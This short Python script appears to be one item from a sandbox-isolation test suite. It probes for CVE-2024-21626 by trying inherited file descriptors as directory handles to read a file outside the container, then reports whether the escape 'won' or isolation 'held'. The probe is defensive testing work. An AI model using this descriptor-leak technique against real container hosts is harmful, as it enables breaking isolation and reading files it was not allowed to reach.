# technique: use a directory descriptor that the supervisor left open (CVE-2024-21626)
# family: C2
# severity: C
# layers: policy, descriptors, mount_namespace
import os

tried = 0
for fd in range(3, 256):
    tried += 1
    try:
        inside = os.open("readable", os.O_RDONLY, dir_fd=fd)
    except OSError:
        continue
    won("read %s through descriptor %d" % (os.read(inside, 100).decode(), fd))
    break
else:
    held("no directory among %d descriptors" % tried)
